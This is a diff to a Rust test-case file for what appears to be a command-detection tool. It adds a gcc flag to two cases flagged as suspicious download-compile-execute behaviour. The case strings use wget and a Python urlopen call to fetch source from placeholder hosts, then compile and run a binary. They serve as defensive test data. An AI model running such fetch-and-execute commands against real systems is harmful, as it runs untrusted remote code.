@@ -83,7 +83,7 @@ pub(super) fn cases() -> Vec<Case> {
             GROUP,
             "fetched as source and compiled, wget",
             &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
-            "wget -q -O /tmp/s.c http://203.0.113.30/s.c; echo 'int main(void){return 0;} void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}' > /tmp/s.c; gcc -nostdinc -nostdlib -static -o /tmp/s /tmp/s.c && /tmp/s && echo compiled",
+            "wget -q -O /tmp/s.c http://203.0.113.30/s.c; echo 'int main(void){return 0;} void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}' > /tmp/s.c; gcc -fno-use-linker-plugin -nostdinc -nostdlib -static -o /tmp/s /tmp/s.c && /tmp/s && echo compiled",
         )
         .with(&[Tool::Compiler])
         .suspicious(),
@@ -91,7 +91,7 @@ pub(super) fn cases() -> Vec<Case> {
             GROUP,
             "fetched as source and compiled, python",
             &["D-DLX-COMPILE", "D-DLX-FETCHEXEC"],
-            "import subprocess, urllib.request\nurllib.request.urlopen('https://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-nostdinc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
+            "import subprocess, urllib.request\nurllib.request.urlopen('https://src.example/p.c').read()\nopen('/var/tmp/p.c', 'w').write('void _start(void){__asm__(\"mov $60,%eax;xor %edi,%edi;syscall\");}')\nsubprocess.check_call(['gcc', '-fno-use-linker-plugin', '-nostdinc', '-nostdlib', '-static', '-o', '/var/tmp/p', '/var/tmp/p.c'])\nsubprocess.check_call(['/var/tmp/p'])\n",
         )
         .with(&[Tool::Compiler])
         .suspicious(),
